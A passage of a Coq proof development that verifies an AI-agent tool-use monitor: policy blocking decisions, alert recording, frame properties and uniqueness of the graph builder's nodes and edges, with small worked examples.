Proof. intros Hb. unfold evaluate_pre_tool. rewrite Hb. reflexivity. Qed.

Lemma evaluate_pre_tool_allow event w :
  blocking_policy (_policies w) (classify (enrich event)) = None ->
  evaluate_pre_tool event w = (mkDecision true None None None, classify (enrich event), w).
Proof. intros Hb. unfold evaluate_pre_tool. by rewrite Hb. Qed.

(** C1 (as amended): [evaluate_pre_tool] enriches and classifies the event;
    on the first policy of the cache with action BLOCK that matches it (an
    enabled one, as only those match) it persists an alert with
    [blocked = true] whose [event_ids] is the id of the denied event, with
    one evidence item, the severity and the id of the policy, adds one to
    the alert counter of the session, broadcasts the alert, and returns a
    decision with [allow = false], the id of the alert, and as reason the
    text "Blocked by policy: " followed by the name of the policy; when no
    BLOCK policy matches it returns the decision with [allow = true] and
    changes nothing. *)
Theorem evaluate_pre_tool_decision (event : Event) (w : Engine) :
  (forall a, In a (alerts (database w)) -> (alert_id a < next_uuid w)%N) ->
  let event' := classify (enrich event) in
  let d := fst (fst (evaluate_pre_tool event w)) in
  let w' := snd (evaluate_pre_tool event w) in
  snd (fst (evaluate_pre_tool event w)) = event' /\
  ev_enriched event' = true /\
  (forall pre policy post,
     _policies w = pre ++ policy :: post ->
     (forall p, In p pre -> blocks p event' = false) ->
     policy_action policy = BLOCK ->
     Policies.matches policy (_event_to_dict event') = true ->
     policy_enabled policy = true /\
     allow d = false /\
     reason d = Some ("Blocked by policy: " +:+ policy_name policy) /\
     exists alert,
       decision_alert_id d = Some (alert_id alert) /\
       alerts (database w') = alerts (database w) ++ [alert] /\
       alert_blocked alert = true /\
       alert_event_ids alert = [ev_id event] /\
       alert_session_id alert = ev_session_id event /\
       alert_severity alert = policy_severity policy /\
       alert_policy_id alert = Some (policy_id policy) /\
       length (alert_evidence alert) = 1%nat /\
       sessions (database w') =
         map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                       then bump_alert_count s else s)
             (sessions (database w)) /\
       broadcasts w' = broadcasts w ++ [BroadcastAlert alert]) /\
  ((forall p, In p (_policies w) -> blocks p event' = false) ->
   d = mkDecision true None None None /\ w' = w).
Proof.
  intros Hfresh event' d w'. split; [|split; [done|split]].
  - unfold evaluate_pre_tool. fold event'.
    by destruct (blocking_policy (_policies w) event').
  - intros pre policy post Hps Hpre Hact Hm.
    assert (blocks policy event' = true) as Hb.
    { unfold blocks. by rewrite Hm, bool_decide_eq_true_2. }
    pose proof (blocking_policy_first _ _ _ _ _ Hps Hpre Hb) as Hfind.
    pose proof (evaluate_pre_tool_deny event w policy Hfind) as Hrun.
    cbv zeta in Hrun. fold event' in Hrun.
    split; [by eapply matches_enabled|].
    unfold d, w'. rewrite Hrun. cbn [fst snd allow reason decision_alert_id database broadcasts].
    split; [done|]. split; [done|].
    exists (block_alert policy event' (next_uuid w) (clock w)).
    rewrite save_alert_fresh.
    + repeat split.
    + intros a Hin. specialize (Hfresh a Hin). simpl. lia.
  - intros Hno. apply blocking_policy_none in Hno.
    unfold d, w'. by rewrite (evaluate_pre_tool_allow _ _ Hno).
Qed.

(** C2: [evaluate_pre_tool] leaves the queue, the sequence tracker (its
    buffers, fired set and rules), the graph nodes and edges, the events
    and policies tables and the policy cache as they are; every session row
    keeps its [session_id] and [risk_score], and changes at most by one
    more alert in [alert_count]; at most one alert is broadcast. *)
Theorem evaluate_pre_tool_frame (event : Event) (w : Engine) :
  let w' := snd (evaluate_pre_tool event w) in
  _event_queue w' = _event_queue w /\
  _sequence_tracker w' = _sequence_tracker w /\
  graph_nodes (database w') = graph_nodes (database w) /\
  graph_edges (database w') = graph_edges (database w) /\
  events (database w') = events (database w) /\
  policies (database w') = policies (database w) /\
  _policies w' = _policies w /\
  Forall2 (fun s s' =>
             s_risk_score s' = s_risk_score s /\
             s_session_id s' = s_session_id s /\
             (s' = s \/ s' = bump_alert_count s))
          (sessions (database w)) (sessions (database w')) /\
  (broadcasts w' = broadcasts w \/
   exists alert, alert_blocked alert = true /\
                 broadcasts w' = broadcasts w ++ [BroadcastAlert alert]).
Proof.
  intros w'. unfold w'.
  destruct (blocking_policy (_policies w) (classify (enrich event))) as [policy|] eqn:Hb.
  - rewrite (evaluate_pre_tool_deny _ _ _ Hb). cbv zeta.
    cbn [snd _event_queue _sequence_tracker database _policies broadcasts].
    set (alert := block_alert _ _ _ _).
    assert (forall db a, graph_nodes (save_alert db a) = graph_nodes db /\
                         graph_edges (save_alert db a) = graph_edges db /\
                         events (save_alert db a) = events db /\
                         policies (save_alert db a) = policies db /\
                         sessions (save_alert db a) = sessions db) as Hsave.
    { intros db a. unfold save_alert. by destruct (existsb _ _). }
    destruct (Hsave (database w) alert) as (Hn & He & Hev & Hp & Hs).
    split; [done|]. split; [done|]. split; [exact Hn|]. split; [exact He|].
    split; [exact Hev|]. split; [exact Hp|]. split; [done|]. split.
    + unfold increment_session_alert_count, update_session. cbn [sessions set_sessions].
      rewrite Hs. apply Forall2_map_self. intros s.
      destruct (String.eqb (s_session_id s) _); simpl; auto.
    + right. by exists alert.
  - rewrite (evaluate_pre_tool_allow _ _ Hb). cbn [snd].
    do 7 (split; [done|]). split; [|by left].
    rewrite <- (map_id (sessions (database w))) at 2.
    apply Forall2_map_self. auto.
Qed.

End PreToolFacts.

Module PreToolExample.
Import Store Engine LiteralRe.

(** An evaluation of conditions for policies that have none. *)
Definition no_condition_eval : ConditionEval := {| cond_evaluate _ _ := false |}.

Definition block_all : Policy :=
  mkPolicy 7%N "Block everything" "no tool may run" true [] [] [] "all" BLOCK HIGH "" "" [].

Definition one_session : Session :=
  mkSession 1%N "s1" 0 None None None 3 0 0 "active" None None None.

Definition blocking_engine : Engine :=
  mkEngine (mkDatabase [one_session] [] [] [block_all] [] [])
           [] [block_all] Sequence.new_tracker 100%N 5 [].

Definition bare_event : Event :=
  mkEvent 42%N "s1" 0 "PreToolUse" None None None UNKNOWN INFO [] [] [] []
          false false None.

(** C1 as stated fails on the reason: it is not the name of the policy but
    a sentence that ends with it. *)
Lemma evaluate_pre_tool_reason_counterexample :
  @blocking_policy no_condition_eval (_policies blocking_engine)
     (@classify literal_re (@enrich literal_re bare_event)) = Some block_all /\
  policy_name block_all = "Block everything" /\
  allow (fst (fst (@evaluate_pre_tool literal_re no_condition_eval
                     bare_event blocking_engine))) = false /\
  reason (fst (fst (@evaluate_pre_tool literal_re no_condition_eval
                      bare_event blocking_engine)))
    = Some "Blocked by policy: Block everything".
Proof. vm_compute. repeat split. Qed.

Lemma evaluate_pre_tool_decision_witness :
  let event := bare_event in
  let w := blocking_engine in
  let event' := @classify literal_re (@enrich literal_re event) in
  let d := fst (fst (@evaluate_pre_tool literal_re no_condition_eval event w)) in
  let w' := snd (@evaluate_pre_tool literal_re no_condition_eval event w) in
  snd (fst (@evaluate_pre_tool literal_re no_condition_eval event w)) = event' /\
  ev_enriched event' = true /\
  (forall pre policy post,
     _policies w = pre ++ policy :: post ->
     (forall p, In p pre -> @blocks no_condition_eval p event' = false) ->
     policy_action policy = BLOCK ->
     @Policies.matches no_condition_eval policy (_event_to_dict event') = true ->
     policy_enabled policy = true /\
     allow d = false /\
     reason d = Some ("Blocked by policy: " +:+ policy_name policy) /\
     exists alert,
       decision_alert_id d = Some (alert_id alert) /\
       alerts (database w') = alerts (database w) ++ [alert] /\
       alert_blocked alert = true /\
       alert_event_ids alert = [ev_id event] /\
       alert_session_id alert = ev_session_id event /\
       alert_severity alert = policy_severity policy /\
       alert_policy_id alert = Some (policy_id policy) /\
       length (alert_evidence alert) = 1%nat /\
       sessions (database w') =
         map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                       then bump_alert_count s else s)
             (sessions (database w)) /\
       broadcasts w' = broadcasts w ++ [BroadcastAlert alert]) /\
  ((forall p, In p (_policies w) -> @blocks no_condition_eval p event' = false) ->
   d = mkDecision true None None None /\ w' = w).
Proof.
  apply (@evaluate_pre_tool_decision literal_re no_condition_eval
           bare_event blocking_engine).
  intros a Hin. destruct Hin.
Defined.

End PreToolExample.

(** ** The graph builder *)

Section UpsertFacts.
Import Store Engine.

Lemma same_node_key_eq a b : same_node_key a b = true <-> node_key a = node_key b.
Proof.
  unfold same_node_key, node_key. rewrite andb_true_iff, bool_decide_eq_true, String.eqb_eq.
  split; [by intros [-> ->] | by intros [= -> ->]].
Qed.

Lemma same_edge_key_eq a b : same_edge_key a b = true <-> edge_key a = edge_key b.
Proof.
  unfold same_edge_key, edge_key.
  rewrite !andb_true_iff, bool_decide_eq_true, !N.eqb_eq.
  split; [by intros [[-> ->] ->] | by intros [= -> -> ->]].
Qed.

Lemma same_node_key_neq a b : same_node_key a b = false <-> node_key a <> node_key b.
Proof. rewrite <- same_node_key_eq. by destruct (same_node_key a b). Qed.

Lemma same_edge_key_neq a b : same_edge_key a b = false <-> edge_key a <> edge_key b.
Proof. rewrite <- same_edge_key_eq. by destruct (same_edge_key a b). Qed.

Lemma merge_node_key new old : node_key (merge_node new old) = node_key old.
Proof. reflexivity. Qed.

Lemma merge_edge_key new old : edge_key (merge_edge new old) = edge_key old.
Proof. reflexivity. Qed.

Lemma map_key_update {A K} (key : A -> K) (test : A -> bool) (f : A -> A) l :
  (forall x, key (f x) = key x) ->
  map key (map (fun x => if test x then f x else x) l) = map key l.
Proof.
  intros Hk. induction l as [|x l IH]; [done|]. simpl. rewrite IH.
  by destruct (test x); rewrite ?Hk.
Qed.

Lemma NoDup_snoc {K} (l : list K) k :
  List.NoDup l -> ~ In k l -> List.NoDup (l ++ [k]).
Proof.
  intros Hnd Hk. apply NoDup_ListNoDup. apply NoDup_app. repeat split.
  - by apply NoDup_ListNoDup.
  - intros x Hx Hx'. apply list_elem_of_In in Hx. apply list_elem_of_In in Hx'.
    destruct Hx' as [<-|[]]. done.
  - apply NoDup_ListNoDup. constructor; [by intros []|constructor].
Qed.

Lemma NoDup_map_inj {A K} (key : A -> K) l x y :
  List.NoDup (map key l) -> In x l -> In y l -> key x = key y -> x = y.
Proof.
  induction l as [|z l IH]; [done|]. simpl. intros Hnd Hx Hy Hk.
  inversion Hnd as [|? ? Hz Hnd']; subst.
  destruct Hx as [->|Hx], Hy as [->|Hy]; [done| | |by apply IH].
  - exfalso. apply Hz. rewrite Hk. by apply in_map.
  - exfalso. apply Hz. rewrite <- Hk. by apply in_map.
Qed.

(** The result of [save_graph_node]: an update of the row with the key,
    or one more row. *)
Lemma save_graph_node_cases db node :
  (exists old, In old (graph_nodes db) /\ node_key old = node_key node /\
     save_graph_node db node =
       (set_graph_nodes db
          (map (fun n => if same_node_key node n then merge_node node n else n)
               (graph_nodes db)),
        node_id old)) \/
  ((forall n, In n (graph_nodes db) -> node_key n <> node_key node) /\
   save_graph_node db node =
     (set_graph_nodes db (graph_nodes db ++ [node]), node_id node)).
Proof.
  unfold save_graph_node.
  destruct (List.find (same_node_key node) (graph_nodes db)) as [old|] eqn:Hf.
  - left. apply List.find_some in Hf as [Hin Hk]. apply same_node_key_eq in Hk.
    by exists old.
  - right. split; [|done]. intros n Hin Hk.
    eapply List.find_none in Hf; [|done]. apply same_node_key_neq in Hf. by rewrite Hk in Hf.
Qed.

Lemma save_graph_edge_cases db edge :
  ((exists old, In old (graph_edges db) /\ edge_key old = edge_key edge) /\
   save_graph_edge db edge =
     set_graph_edges db
       (map (fun e => if same_edge_key edge e then merge_edge edge e else e)
            (graph_edges db))) \/
  ((forall e, In e (graph_edges db) -> edge_key e <> edge_key edge) /\
   save_graph_edge db edge = set_graph_edges db (graph_edges db ++ [edge])).
Proof.
  unfold save_graph_edge.
  destruct (existsb (same_edge_key edge) (graph_edges db)) eqn:Hex.
  - left. split; [|done]. apply existsb_exists in Hex as (old & Hin & Hk).
    apply same_edge_key_eq in Hk. by exists old.
  - right. split; [|done]. intros e Hin Hk.
    assert (existsb (same_edge_key edge) (graph_edges db) = true); [|congruence].
    apply existsb_exists. exists e. split; [done|]. by apply same_edge_key_eq.
Qed.

Lemma save_graph_node_edges db node :
  graph_edges (fst (save_graph_node db node)) = graph_edges db.
Proof. by destruct (save_graph_node_cases db node) as [(old & _ & _ & ->)|[_ ->]]. Qed.

Lemma save_graph_edge_nodes db edge :
  graph_nodes (save_graph_edge db edge) = graph_nodes db.
Proof. by destruct (save_graph_edge_cases db edge) as [[_ ->]|[_ ->]]. Qed.

(** [save_graph_node] keeps (node_type, value) unique. *)
Lemma save_graph_node_unique db node :
  unique_keys db -> unique_keys (fst (save_graph_node db node)).
Proof.
  intros [Hn He]. split; [|by rewrite save_graph_node_edges].
  destruct (save_graph_node_cases db node) as [(old & _ & _ & ->)|[Hfresh ->]]; simpl.
  - by rewrite map_key_update.
  - rewrite map_app. simpl. apply NoDup_snoc; [done|].
    intros Hin. apply in_map_iff in Hin as (n & Hk & Hin). by apply (Hfresh n).
Qed.

(** [save_graph_edge] keeps (source, target, relation) unique. *)
Lemma save_graph_edge_unique db edge :
  unique_keys db -> unique_keys (save_graph_edge db edge).
Proof.
  intros [Hn He]. split; [by rewrite save_graph_edge_nodes|].
  destruct (save_graph_edge_cases db edge) as [[_ ->]|[Hfresh ->]]; simpl.
  - by rewrite map_key_update.
  - rewrite map_app. simpl. apply NoDup_snoc; [done|].
    intros Hin. apply in_map_iff in Hin as (e & Hk & Hin). by apply (Hfresh e).
Qed.

End UpsertFacts.

Section ReplayFacts.
Import Store Engine.
Context `{PyRe} `{PyUrl}.
Variables (sid : string) (eid : UUID).

Local Abbreviation grows := (Engine.grows sid eid).
Local Abbreviation graph_op := (Engine.graph_op sid eid).

Lemma grows_refl a : grows a a.
Proof.
  split; [lia|]. split.
  - intros n Hin. by exists n.
  - intros e Hin. by exists e.
Qed.

Lemma grows_trans a b c : grows a b -> grows b c -> grows a c.
Proof.
  intros (Hc1 & Hn1 & He1) (Hc2 & Hn2 & He2). split; [lia|]. split.
  - intros n Hin. destruct (Hn1 n Hin) as (n1 & Hin1 & Hk1 & Hi1 & Hm1).
    destruct (Hn2 n1 Hin1) as (n2 & Hin2 & Hk2 & Hi2 & Hm2).
    exists n2. split; [done|]. split; [congruence|]. split; [congruence|auto].
  - intros e Hin. destruct (He1 e Hin) as (e1 & Hin1 & Hk1 & Hm1).
    destruct (He2 e1 Hin1) as (e2 & Hin2 & Hk2 & Hm2).
    exists e2. split; [done|]. split; [congruence|auto].
Qed.

Lemma node_advanced_refl n : node_advanced n n.
Proof. unfold node_advanced. repeat split; lia. Qed.

Lemma edge_advanced_refl e : edge_advanced e e.
Proof. unfold edge_advanced. repeat split; lia. Qed.

Lemma Forall2_diag {A} (R : A -> A -> Prop) l : (forall x, R x x) -> Forall2 R l l.
Proof. intros HR. induction l; constructor; auto. Qed.

Lemma follows_refl d : unique_keys (database d) -> follows d d.
Proof.
  intros Hu. split; [lia|]. split; [done|]. split.
  - apply Forall2_diag. intros n. split; [apply node_advanced_refl | by left].
  - apply Forall2_diag. intros e. split; [apply edge_advanced_refl | by left].
Qed.

Lemma graph_op_ret {A} (x : A) : graph_op (ret x).
Proof.
  split.
  - intros a y a' [= <- <-]. split; [apply grows_refl | done].
  - intros a y a' d b [= <- <-] _ Hf. by exists b.
Qed.

Lemma graph_op_bind {A B} (p : M A) (k : A -> M B) :
  graph_op p -> (forall x, graph_op (k x)) -> graph_op (bind p k).
Proof.
  intros [Hp1 Hp2] Hk. split.
  - intros a y a2. unfold bind. destruct (p a) as [x a1] eqn:Hpa. intros Hka.
    destruct (Hp1 _ _ _ Hpa) as [Hg1 Hu1].
    destruct (Hk x) as [Hk1 _]. destruct (Hk1 _ _ _ Hka) as [Hg2 Hu2].
    split; [by eapply grows_trans | auto].
  - intros a y a2 d b. unfold bind. destruct (p a) as [x a1] eqn:Hpa. intros Hka Hg Hf.
    destruct (Hk x) as [Hk1 Hk2]. destruct (Hk1 _ _ _ Hka) as [Hg2 _].
    destruct (Hp2 _ _ _ d b Hpa (grows_trans _ _ _ Hg2 Hg) Hf) as (b1 & Hpb & Hf1).
    destruct (Hk2 _ _ _ d b1 Hka Hg Hf1) as (b2 & Hkb & Hf2).
    exists b2. by rewrite Hpb.
Qed.

Lemma graph_op_for_each {A} (xs : list A) (body : A -> M unit) :
  (forall x, graph_op (body x)) -> graph_op (for_each xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl; [apply graph_op_ret|].
  apply graph_op_bind; [apply Hb | by intros _].
Qed.

Lemma graph_op_for_collect {A B} (xs : list A) (body : A -> M B) :
  (forall x, graph_op (body x)) -> graph_op (for_collect xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl; [apply graph_op_ret|].
  apply graph_op_bind; [apply Hb|]. intros y.
  apply graph_op_bind; [apply IH|]. intros ys. apply graph_op_ret.
Qed.

End ReplayFacts.

Section ReplayOps.
Import Store Engine.
Context `{PyRe} `{PyUrl}.
Variables (sid : string) (eid : UUID).

Local Abbreviation built_node := (Engine.built_node sid eid).
Local Abbreviation built_edge := (Engine.built_edge sid eid).

Lemma upsert_node_run ty label value a :
  upsert_node ty label value sid eid a =
  (snd (save_graph_node (database a) (built_node ty label value a)),
   mkEngine (fst (save_graph_node (database a) (built_node ty label value a)))
            (_event_queue a) (_policies a) (_sequence_tracker a)
            (N.succ (next_uuid a)) (clock a + 1 + 1) (broadcasts a)).
Proof.
  unfold upsert_node, new_node, db_save_graph_node, bind, uuid4, now, ret. simpl.
  fold (built_node ty label value a). by destruct (save_graph_node _ _).
Qed.

Lemma upsert_edge_run s t r a :
  upsert_edge s t r sid eid a =
  (tt,
   mkEngine (save_graph_edge (database a) (built_edge s t r a))
            (_event_queue a) (_policies a) (_sequence_tracker a)
            (N.succ (next_uuid a)) (clock a + 1 + 1) (broadcasts a)).
Proof. reflexivity. Qed.

Lemma Forall2_In_l {A B} (R : A -> B -> Prop) l l' x :
  Forall2 R l l' -> In x l -> exists y, In y l' /\ R x y.
Proof.
  induction 1 as [|a b l l' Hab _ IH]; [done|].
  intros [->|Hin]; [exists b; split; [by left | done]|].
  destruct (IH Hin) as (y & Hy & Hr). exists y. split; [by right | done].
Qed.

Lemma Forall2_map_r {A B} (R R' : A -> B -> Prop) (g : B -> B) l l' :
  Forall2 R l l' ->
  (forall x y, In y l' -> R x y -> R' x (g y)) ->
  Forall2 R' l (map g l').
Proof.
  induction 1 as [|a b l l' Hab _ IH]; intros Hg; simpl; [constructor|].
  constructor; [apply Hg; [by left | done]|].
  apply IH. intros x y Hy. apply Hg. by right.
Qed.

Lemma save_graph_node_written db node :
  exists n, In n (graph_nodes (fst (save_graph_node db node))) /\
            node_key n = node_key node /\
            node_id n = snd (save_graph_node db node) /\
            node_session_ids n = node_session_ids node /\
            node_event_ids n = node_event_ids node /\
            node_last_seen n = node_last_seen node.
Proof.
  destruct (save_graph_node_cases db node) as [(old & Hin & Hk & ->)|[_ ->]]; simpl.
  - exists (merge_node node old). split; [|done].
    apply in_map_iff. exists old. split; [|done].
    assert (same_node_key node old = true) as -> by (by apply same_node_key_eq). done.
  - exists node. split; [|done]. apply in_or_app. right. by left.
Qed.

Lemma save_graph_edge_written db edge :
  exists e, In e (graph_edges (save_graph_edge db edge)) /\
            edge_key e = edge_key edge /\
            edge_session_ids e = edge_session_ids edge /\
            edge_event_ids e = edge_event_ids edge /\
            edge_last_seen e = edge_last_seen edge.
Proof.
  destruct (save_graph_edge_cases db edge) as [[(old & Hin & Hk) ->]|[_ ->]]; simpl.
  - exists (merge_edge edge old). split; [|done].
    apply in_map_iff. exists old. split; [|done].
    assert (same_edge_key edge old = true) as -> by (by apply same_edge_key_eq). done.
  - exists edge. split; [|done]. apply in_or_app. right. by left.
Qed.

Ltac keep_marked :=
  try (intros (? & ? & ?)); repeat split; simpl in *; try done; lia.

Lemma graph_op_upsert_node ty label value :
  graph_op sid eid (upsert_node ty label value sid eid).
Proof.
  split.
  - (* one run only grows the graph *)
    intros a x a'. rewrite upsert_node_run. intros Heq. injection Heq as Hx Ha.
    subst x a'. set (node := built_node ty label value a).
    split; [|intros Hu; by apply save_graph_node_unique].
    split; [simpl; lia|]. split.
    + intros n Hin. simpl.
      destruct (save_graph_node_cases (database a) node) as [(old & _ & _ & ->)|[_ ->]];
        simpl.
      * exists (if same_node_key node n then merge_node node n else n).
        split; [by apply (in_map (fun n => if same_node_key node n
                                           then merge_node node n else n))|].
        split; [by destruct (same_node_key node n)|].
        split; [by destruct (same_node_key node n)|].
        destruct (same_node_key node n); [|keep_marked]. intros _. keep_marked.
      * exists n. split; [apply in_or_app; by left|]. split; [done|]. split; [done|].
        keep_marked.
    + intros e Hin. exists e. simpl. rewrite save_graph_node_edges.
      split; [done|]. split; [done|]. keep_marked.
  - (* a second run on what the first wrote *)
    intros a x a' d b. rewrite !upsert_node_run. intros Heq. injection Heq as Hx Ha.
    subst x a'. intros Hg Hf.
    set (node := built_node ty label value a) in *.
    set (node_b := built_node ty label value b).
    destruct Hg as (_ & Hgn & _). destruct Hf as (Hclock & [Hun Hue] & Hfn & Hfe).
    destruct (save_graph_node_written (database a) node)
      as (n1 & Hin1 & Hk1 & Hid1 & Hs1 & He1 & Hl1).
    destruct (Hgn n1 Hin1) as (nd & Hind & Hkd & Hidd & Hmd).
    destruct Hmd as (Hsd & Hed & Hld); [repeat split; simpl; try done; rewrite Hl1; simpl; lia|].
    destruct (Forall2_In_l _ _ _ _ Hfn Hind) as (nb & Hinb & Hadv & Hlast).
    assert (node_key nb = node_key node_b) as Hkb.
    { destruct Hadv as (_ & Hty & _ & Hval & _). unfold node_key. rewrite Hty, Hval.
      change (node_key nd = node_key node). congruence. }
    assert (node_session_ids nb = [sid] /\ node_event_ids nb = [eid] /\
            node_last_seen nb < clock b) as (Hsb & Heb & Hlb).
    { destruct Hadv as (_ & _ & _ & _ & _ & _ & Hs & He & _).
      split; [congruence|]. split; [congruence|]. lia. }
    assert (forall n, In n (graph_nodes (database b)) ->
                      same_node_key node_b n = true -> n = nb) as Honly.
    { intros n Hn Hk. apply same_node_key_eq in Hk.
      apply (NoDup_map_inj node_key (graph_nodes (database b))); [done..|congruence]. }
    destruct (save_graph_node_cases (database b) node_b)
      as [(old & Hino & Hko & Hrun)|[Hfresh _]]; [|by destruct (Hfresh nb Hinb)].
    assert (old = nb) as -> by (apply Honly; [done | by apply same_node_key_eq]).
    assert (Huq := save_graph_node_unique _ node_b (conj Hun Hue)).
    rewrite Hrun in *. cbn [fst snd] in *.
    eexists. split; [f_equal; destruct Hadv as (Hidb & _); congruence|].
    split; [simpl; lia|]. split; [exact Huq|]. simpl.
    split.
    + eapply Forall2_map_r; [exact Hfn|]. intros n n' Hn' [Hadv' Hlast'].
      destruct (same_node_key node_b n') eqn:Hk.
      * apply Honly in Hk as ->; [|done]. split; [|right; simpl; lia].
        destruct Hadv' as (? & ? & ? & ? & ? & ? & ? & ? & ? & ? & ? & ? & ?).
        unfold node_advanced. simpl. repeat split; try done; try congruence; lia.
      * split; [done|]. destruct Hlast'; [by left | right; lia].
    + eapply Forall2_impl; [exact Hfe|]. simpl. intros e e' [Hadv' Hlast'].
      split; [done|]. destruct Hlast'; [by left | right; lia].
Qed.

Lemma graph_op_upsert_edge s t r :
  graph_op sid eid (upsert_edge s t r sid eid).
Proof.
  split.
  - intros a x a'. rewrite upsert_edge_run. intros Heq. injection Heq as Ha.
    subst a'. set (edge := built_edge s t r a).
    split; [|intros Hu; by apply save_graph_edge_unique].
    split; [simpl; lia|]. split.
    + intros n Hin. exists n. simpl. rewrite save_graph_edge_nodes.
      split; [done|]. split; [done|]. split; [done|]. keep_marked.
    + intros e Hin. simpl.
      destruct (save_graph_edge_cases (database a) edge) as [[_ ->]|[_ ->]]; simpl.
      * exists (if same_edge_key edge e then merge_edge edge e else e).
        split; [by apply (in_map (fun e => if same_edge_key edge e
                                           then merge_edge edge e else e))|].
        split; [by destruct (same_edge_key edge e)|].
        destruct (same_edge_key edge e); [|keep_marked]. intros _. keep_marked.
      * exists e. split; [apply in_or_app; by left|]. split; [done|]. keep_marked.
  - intros a x a' d b. rewrite !upsert_edge_run. intros Heq. injection Heq as Ha.
    subst a'. intros Hg Hf.
    set (edge := built_edge s t r a) in *.
    set (edge_b := built_edge s t r b).
    destruct Hg as (_ & _ & Hge). destruct Hf as (Hclock & [Hun Hue] & Hfn & Hfe).
    destruct (save_graph_edge_written (database a) edge)
      as (e1 & Hin1 & Hk1 & Hs1 & He1 & Hl1).
    destruct (Hge e1 Hin1) as (ed & Hind & Hkd & Hmd).
    destruct Hmd as (Hsd & Hed & Hld); [repeat split; simpl; try done; rewrite Hl1; simpl; lia|].
    destruct (Forall2_In_l _ _ _ _ Hfe Hind) as (eb & Hinb & Hadv & Hlast).
    assert (edge_key eb = edge_key edge_b) as Hkb.
    { destruct Hadv as (_ & Hs' & Ht' & Hr' & _). unfold edge_key. rewrite Hs', Ht', Hr'.
      change (edge_key ed = edge_key edge). congruence. }
    assert (edge_session_ids eb = [sid] /\ edge_event_ids eb = [eid] /\
            edge_last_seen eb < clock b) as (Hsb & Heb & Hlb).
    { destruct Hadv as (_ & _ & _ & _ & _ & Hs & He & _).
      split; [congruence|]. split; [congruence|]. lia. }
    assert (forall e, In e (graph_edges (database b)) ->
                      same_edge_key edge_b e = true -> e = eb) as Honly.
    { intros e Hn Hk. apply same_edge_key_eq in Hk.
      apply (NoDup_map_inj edge_key (graph_edges (database b))); [done..|congruence]. }
    destruct (save_graph_edge_cases (database b) edge_b)
      as [[_ Hrun]|[Hfresh _]]; [|by destruct (Hfresh eb Hinb)].
    assert (Huq := save_graph_edge_unique _ edge_b (conj Hun Hue)).
    rewrite Hrun in *.
    eexists. split; [by destruct x|].
    split; [simpl; lia|]. split; [exact Huq|]. simpl.
    split.
    + eapply Forall2_impl; [exact Hfn|]. simpl. intros n n' [Hadv' Hlast'].
      split; [done|]. destruct Hlast'; [by left | right; lia].
    + eapply Forall2_map_r; [exact Hfe|]. intros e e' He' [Hadv' Hlast'].
      destruct (same_edge_key edge_b e') eqn:Hk.
      * apply Honly in Hk as ->; [|done]. split; [|right; simpl; lia].
        destruct Hadv' as (? & ? & ? & ? & ? & ? & ? & ? & ? & ? & ? & ?).
        unfold edge_advanced. simpl. repeat split; try done; try congruence; lia.
      * split; [done|]. destruct Hlast'; [by left | right; lia].
Qed.

End ReplayOps.

Section ReplayBuild.
Import Store Engine.
Context `{PyRe} `{PyUrl}.

(** The graph builder is made of upserts for its event. *)
Lemma graph_op_build_graph (event : Event) :
  graph_op (ev_session_id event) (ev_id event) (_build_graph event).
Proof.
  unfold _build_graph.
  apply graph_op_bind; [apply graph_op_upsert_node|]. intros session_actual_id.
  apply graph_op_bind.
  { destruct (ev_tool_name event) as [tool_name|]; [|apply graph_op_ret].
    destruct (String.eqb tool_name ""); [apply graph_op_ret|].
    apply graph_op_bind; [apply graph_op_upsert_node|]. intros tool_actual_id.
    apply graph_op_bind; [apply graph_op_upsert_edge|]. intros _. apply graph_op_ret. }
  intros parent_id. apply graph_op_bind.
  { destruct (ev_commands event); [|apply graph_op_ret].
    apply graph_op_for_each. intros fp.
    apply graph_op_bind; [apply graph_op_upsert_node|]. intros file_actual_id.
    apply graph_op_upsert_edge. }
  intros _. apply graph_op_bind.
  { apply graph_op_for_collect. intros cmd.
    apply graph_op_bind; [apply graph_op_upsert_node|]. intros group_actual_id.
    apply graph_op_bind; [apply graph_op_upsert_edge|]. intros _.
    apply graph_op_bind; [apply graph_op_upsert_node|]. intros cmd_actual_id.
    apply graph_op_bind; [apply graph_op_upsert_edge|]. intros _.
    apply graph_op_bind; [|intros _; apply graph_op_ret].
    apply graph_op_for_each. intros ref.
    apply graph_op_bind; [apply graph_op_upsert_node|]. intros file_actual_id.
    apply graph_op_upsert_edge. }
  intros process_actual_ids. apply graph_op_for_each. intros url.
  apply graph_op_bind; [apply graph_op_upsert_node|]. intros domain_actual_id.
  destruct process_actual_ids; [apply graph_op_upsert_edge|].
  apply graph_op_for_each. intros pid. apply graph_op_upsert_edge.
Qed.

End ReplayBuild.

Section GraphFacts.
Import Store Engine.
Context `{PyRe} `{PyUrl}.

Lemma unique_keys_empty : unique_keys empty_database.
Proof. split; constructor. Qed.


End GraphFacts.

Module GraphExample.
Import Store Engine LiteralRe.

Definition no_hostname : PyUrl := {| url_hostname _ := None |}.

Definition fresh_engine : Engine :=
  mkEngine empty_database [] [] Sequence.new_tracker 100%N 5 [].

Definition curl_event : Event :=
  mkEvent 42%N "s1" 0 "PostToolUse" (Some "Bash") None None COMMAND_EXEC INFO
          ["/tmp/out"] ["curl -o /tmp/out http://example.com"] ["http://example.com"] []
          false true None.

Definition once : Engine := snd (@_build_graph literal_re no_hostname curl_event fresh_engine).
Definition twice : Engine := snd (@_build_graph literal_re no_hostname curl_event once).

Example build_graph_twice_rows :
  length (graph_nodes (database once)) = length (graph_nodes (database twice)) /\
  map node_id (graph_nodes (database once)) = map node_id (graph_nodes (database twice)) /\
  map node_access_count (graph_nodes (database once)) <>
    map node_access_count (graph_nodes (database twice)).
Proof. vm_compute. repeat split. discriminate. Qed.


End GraphExample.

(** ** More on the classifier *)

Section ClassifierMore.
Import Classifier Engine.
Context `{PyRe}.

Lemma dict_get_In {V} (d : PyDict V) k v : dict_get d k = Some v -> In (k, v) d.
Proof.
  induction d as [|[k' v'] d IH]; simpl; [done|].
  destruct (String.eqb_spec k k') as [->|Hne]; [intros [= ->]; by left | auto].
Qed.

Lemma tool_category_range tool_name c :
  tool_category tool_name = Some c ->
  In c [FILE_READ; FILE_WRITE; COMMAND_EXEC; NETWORK_ACCESS; SUBAGENT_SPAWN;
        SESSION_LIFECYCLE].
Proof.
  unfold tool_category. destruct tool_name as [t|]; [|done].
  destruct (String.eqb t ""); [done|]. intros Hg. apply dict_get_In in Hg.
  apply (in_map snd) in Hg. simpl in Hg. simpl. tauto.
Qed.

